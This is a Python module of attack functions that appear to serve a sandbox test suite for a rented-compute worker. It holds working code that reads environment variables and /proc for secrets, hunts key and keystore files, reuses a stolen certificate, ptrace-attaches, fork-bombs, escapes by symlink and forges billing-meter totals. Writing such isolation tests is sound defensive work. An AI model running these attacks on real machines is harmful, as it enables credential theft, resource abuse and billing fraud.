"""What a hostile requestor submits to the worker it rented (tests/test_sandbox.py).

Each function is an attack that a requestor with an ordinary funded session can run on a
provider's machine through its worker, as a task. Each reports what it got as plain data
(strings, numbers, lists, dicts: what the restricted decoder lets back into the requestor's
process), and none raises for an attempt that failed: the test reads the report and says whether
the attack worked. They travel by value (cloudpickle, registered in conftest.py): a sandboxed
worker cannot import this module.
"""

from __future__ import annotations

import asyncio
import ctypes
import errno
import hashlib
import json
import os
import signal
import socket
import sys
import threading
import time


def _error(error: BaseException) -> str:
    code = getattr(error, "errno", None)
    return f"{type(error).__name__}({errno.errorcode.get(code, code)})" if code else type(error).__name__


def _state() -> dict:
    """State that outlives one task in the worker process (by-value functions share no module)."""
    if not hasattr(sys, "_golem_hostile"):
        sys._golem_hostile = {"listeners": [], "met": [0], "spent": []}
    return sys._golem_hostile


# ---------------------------------------------------------------------------- secrets


def read_environment() -> dict[str, str]:
    """The worker's environment: the agent's, if the worker inherited it (a keystore password...)."""
    return dict(os.environ)


def read_process(pid: int) -> dict[str, str]:
    """The command line and environment of process ``pid`` (the agent's: its keystore path, its password)."""
    found = {}
    for name in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                found[name] = f.read(1 << 16).replace(b"\0", b" ").decode(errors="replace")
        except OSError as error:
            found[name] = _error(error)
    return found


def find_secrets(roots: list[str], limit: int = 500) -> list[dict[str, object]]:
    """Every key file, keystore and devnet file under ``roots`` (GOLEM_HOME, the agreements' directories),
    and whether it could be read."""
    found = []
    for root in roots:
        for directory, _, files in os.walk(root):
            for name in files:
                if not (name.endswith((".key", ".pem")) or name == "devnet.json" or "keystore" in directory):
                    continue
                path = os.path.join(directory, name)
                try:
                    with open(path, "rb") as f:
                        data = f.read(1 << 20)
                    found.append({"path": path, "read": True, "sha256": hashlib.sha256(data).hexdigest()})
                except OSError as error:
                    found.append({"path": path, "read": False, "error": _error(error)})
                if len(found) >= limit:
                    return found
    return found


def use_stolen_certificate(directory: str, scheduler: str) -> dict[str, object]:
    """Join another session's scheduler with the worker certificate of another agreement of this
    provider (read from its directory), and ask it who its workers are."""
    from distributed.core import rpc
    from distributed.security import Security

    paths = {name: os.path.join(directory, name) for name in ("ca.pem", "worker.pem", "worker.key")}
    try:
        for path in paths.values():
            with open(path, "rb") as f:
                f.read(1)
    except OSError as error:
        return {"joined": False, "error": f"reading the certificate: {_error(error)}"}
    security = Security(
        tls_ca_file=paths["ca.pem"], tls_worker_cert=paths["worker.pem"], tls_worker_key=paths["worker.key"]
    )

    async def identity() -> dict:
        async with rpc(scheduler, connection_args=security.get_connection_args("worker"), timeout=5) as scheduler_rpc:
            return await scheduler_rpc.identity()

    try:
        answer = asyncio.run(asyncio.wait_for(identity(), 10))
    except BaseException as error:  # noqa: BLE001 (the report says what stopped it)
        return {"joined": False, "error": f"{type(error).__name__}: {error}"[:300]}
    return {"joined": True, "workers": sorted(answer.get("workers", {}))}


# ---------------------------------------------------------------------------- the agent's processes


def send_signals(pids: list[int], sig: int) -> dict[str, str]:
    """``os.kill`` each pid (``0`` for the parent, whatever it is here) with ``sig``."""
    results = {}
    for pid in pids:
        target = os.getppid() if pid == 0 else pid
        try:
            os.kill(target, sig)
            results[str(pid)] = f"delivered to {target}"
        except OSError as error:
            results[str(pid)] = _error(error)
    return results


def ptrace_attach(pid: int) -> str:
    """PTRACE_SEIZE the process (it keeps running), and let it go at once if that worked."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    ptrace_seize, ptrace_detach, ptrace_interrupt = 0x4206, 17, 0x4207
    if libc.ptrace(ptrace_seize, pid, None, None) != 0:
        return errno.errorcode.get(ctypes.get_errno(), "?")
    # PTRACE_DETACH needs the tracee stopped: interrupt it, wait (briefly) for the stop, detach.
    libc.ptrace(ptrace_interrupt, pid, None, None)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            if os.waitpid(pid, os.WNOHANG | 0x40000000)[0]:  # __WALL
                break
        except ChildProcessError:
            break
        time.sleep(0.01)
    libc.ptrace(ptrace_detach, pid, None, None)
    return "attached"


# ---------------------------------------------------------------------------- the network


def connect_to(host: str, port: int, timeout: float = 3.0) -> str:
    """Open a TCP connection (the agent's negotiation port, the chain's RPC node, another session)."""
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return "connected"
    except OSError as error:
        return _error(error)


def ask_relay(host: str, port: int) -> str:
    """Ask the sandbox's relay (as the worker does) for a connection to ``host:port``."""
    path = os.environ.get("GOLEM_SANDBOX_CONNECT")
    if not path:
        return "no relay"
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(15)
            sock.connect(path)
            sock.sendall(f"{host} {port}\n".encode())
            return sock.recv(300).decode(errors="replace").strip()
    except OSError as error:
        return _error(error)


def listen_for_strangers(seconds: float = 60) -> int:
    """Listen on every interface and count who connects in the next ``seconds``; returns the port."""
    listener = socket.create_server(("0.0.0.0", 0))
    state = _state()
    state["listeners"].append(listener)

    def accept() -> None:
        listener.settimeout(seconds)
        try:
            while True:
                connection, _ = listener.accept()
                state["met"][0] += 1
                connection.close()
        except OSError:
            pass

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


def strangers_met() -> int:
    return _state()["met"][0]


# ---------------------------------------------------------------------------- resources


def allocate(nbytes: int) -> int:
    """Touch ``nbytes`` of memory (every page), then let it go; returns how many were held."""
    import numpy as np

    block = np.ones(nbytes, dtype=np.uint8)
    held = int(block.sum())
    del block
    return held


def fork_bomb(attempts: int = 2000, seconds: float = 30.0) -> dict[str, object]:
    """Start up to ``attempts`` processes that sleep; count how many started, then kill them all."""
    children, failures, error = [], 0, ""
    for _ in range(attempts):
        try:
            children.append(os.posix_spawn("/bin/sleep", ["sleep", str(seconds)], {}))
            failures = 0
        except OSError as spawn_error:
            error = _error(spawn_error)
            failures += 1
            if failures >= 20:
                break
    for pid in children:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except OSError:
            pass
    return {"started": len(children), "error": error}


def fill_scratch(nbytes: int, chunk: int = 1 << 20) -> dict[str, object]:
    """Write ``nbytes`` into the worker's local (scratch) directory; report how far it got."""
    from distributed import get_worker

    path = os.path.join(get_worker().local_directory, "filler.bin")
    written, error = 0, ""
    block = b"\xa5" * chunk
    try:
        with open(path, "wb") as f:
            while written < nbytes:
                written += f.write(block)
                f.flush()
    except OSError as write_error:
        error = _error(write_error)
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass
    return {"written": written, "error": error}


def escape_by_symlink(target: str) -> dict[str, object]:
    """Make a symbolic link in the scratch directory to ``target`` (outside it) and read through it."""
    from distributed import get_worker

    link = os.path.join(get_worker().local_directory, "escape")
    try:
        os.symlink(target, link)
        with open(link, "rb") as f:
            data = f.read(1 << 16)
        return {"read": True, "sha256": hashlib.sha256(data).hexdigest()}
    except OSError as error:
        return {"read": False, "error": _error(error)}
    finally:
        try:
            os.unlink(link)
        except OSError:
            pass


def spin_after_return(threads: int = 4, seconds: float = 2.0) -> int:
    """Start ``threads`` threads that burn CPU for ``seconds`` after this task has returned (hashing
    a megabyte at a time, which releases the GIL: the threads run on as many cores as they get)."""
    spent = _state()["spent"]
    spent.clear()
    block = b"\x5a" * (1 << 20)

    def spin() -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            hashlib.sha256(block).digest()
        spent.append(time.thread_time())

    for _ in range(threads):
        threading.Thread(target=spin, daemon=True).start()
    return threads


def background_cpu() -> list[float]:
    """The CPU seconds each thread :func:`spin_after_return` started had used when it ended."""
    return list(_state()["spent"])


def scribble_on_the_meter() -> str:
    """Write junk, forged totals and an endless line into the provider meter's channel."""
    fd = os.environ.get("GOLEM_METER_FD")
    if not fd:
        return "no meter channel"
    junk = [b"not json\n", b'{"cpu_seconds": -5}\n', b"[1, 2]\n", b"\xff\xfe\n", b"9" * 100_000 + b"\n"]
    for line in junk:
        try:
            os.write(int(fd), line)
        except BlockingIOError:
            pass
    return "scribbled"


def silence_the_meter() -> str:
    """Switch the provider's meter plugin off and write zero totals into its channel, forever:
    to the agent's meter file this worker never computes anything."""
    from distributed import get_worker

    meter = get_worker().plugins["golem-compute-meter"]
    fd = meter.fd
    if fd is None:
        return "no meter channel"
    meter.fd = meter.path = None  # its flush() does nothing from now on

    def forge() -> None:
        while True:
            line = {"cpu_seconds": 0.0, "gpu_seconds": 0.0, "tasks": 0, "executing": 0, "last_change": time.time()}
            try:
                os.write(fd, json.dumps(line).encode() + b"\n")
            except BlockingIOError:
                pass
            time.sleep(0.05)

    threading.Thread(target=forge, daemon=True).start()
    return "silenced"


def burn(seconds: float) -> float:
    """Compute for ``seconds`` of this thread's CPU time."""
    end = time.thread_time() + seconds
    while time.thread_time() < end:
        pass
    return seconds


def flood_the_meter(seconds: float) -> int:
    """Write junk lines into the provider meter's channel as fast as it takes them, for ``seconds``."""
    fd = int(os.environ["GOLEM_METER_FD"])
    block = b'{"a":1}\n' * 8192
    written = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            written += os.write(fd, block)
        except BlockingIOError:
            time.sleep(0.001)
    return written
